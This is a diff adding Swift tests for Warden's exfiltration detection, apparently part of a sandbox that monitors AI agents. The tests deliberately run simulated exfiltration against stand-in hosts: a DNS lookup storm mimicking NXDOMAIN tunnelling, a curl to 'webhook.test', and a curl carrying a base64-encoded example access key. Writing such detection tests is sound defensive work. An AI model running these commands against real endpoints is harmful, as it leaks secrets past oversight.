@@ -71,6 +71,34 @@ struct DetectionTests {
         #expect(stopped.contains("webhook.test"), "\(String(describing: result.manifest?["network"]))")
     }
 
+    @Test func onlyTheUpstreamsNXDOMAINsCountNotWardensOwnRefusals() {
+        let storm = "i=0; while [ $i -lt 60 ]; do dig +short +tries=1 +time=1 \"n$i.nope.test\" > /dev/null; i=$((i + 1)); done"
+        let refusing = GuardedRun(net)
+        let refused = refusing.run([], ["sh", "-c", storm], in: workspace)
+        let refusedRecords = refusing.audit(run: refused.runID)
+        #expect(refusedRecords.filter { $0["kind"] as? String == "dns" && $0["decision"] as? String == "deny" }.count >= 60, "every name was refused by policy")
+        #expect(!flags(refusedRecords).contains { $0["rule"] as? String == "exfil.19.nxdomain-burst" }, "Warden's REFUSED answers counted as NXDOMAIN")
+        let answering = GuardedRun(net, allows: ["*.nope.test", "\(net.server)/32"])
+        let answered = answering.run([], ["sh", "-c", storm], in: workspace)
+        let burst = flags(answering.audit(run: answered.runID)).filter { $0["rule"] as? String == "exfil.19.nxdomain-burst" }
+        #expect(burst.count == 1 && (burst.first?["reason"] as? String ?? "").hasPrefix("51 NXDOMAIN answers"), "\(burst)")
+    }
+
+    @Test func aStoppedAgentSaysWhichRuleStoppedIt() throws {
+        let program = "#!/bin/sh\ncurl -sS -o /dev/null https://webhook.test/report\nsleep 30\necho survived\n"
+        let agents = try AgentFixture(files: ["agent.sh": program],
+                                      policy: [("network.mode", "monitor"), ("network.dnsUpstream", net.server), ("network.tlsTrustedCAs", net.caPath),
+                                               ("detection.services", "webhook.test"), ("detection.action.exfil-service", "stop")])
+        let added = Warden.execute(Warden.adminBinary, ["network", "allow", "add", "\(net.server)/32", "--home", agents.home])
+        #expect(added.status == 0, "\(added.stderr)")
+        guard let id = agents.start(["/workspace/agent.sh"]) else { return }
+        #expect(agents.wait(id, seconds: 60) == "stopped", "\(agents.history(id))")
+        #expect(agents.history(id).contains { $0.contains("stopped by detection rule 4 (exfil-service)") }, "\(agents.history(id))")
+        #expect(!agents.warden(["agent", "logs", id]).stdout.contains("survived"))
+        let shown = agents.warden(["agent", "show", id]).stdout
+        #expect(shown.contains("exfiltration detection flag"), "\(shown)")
+    }
+
     @Test func detectionOffPlantsNothingAndFlagsNothing() {
         let guarded = GuardedRun(net, settings: [("detection.enabled", "off")])
         let result = guarded.run([], ["sh", "-c", "ls -A $HOME | wc -l; curl -sS -o /dev/null -w '%{http_code}\\n' 'https://allowed.test/q?d=QUtJQUlPU0ZPRE5ON0VYQU1QTEUK'"],
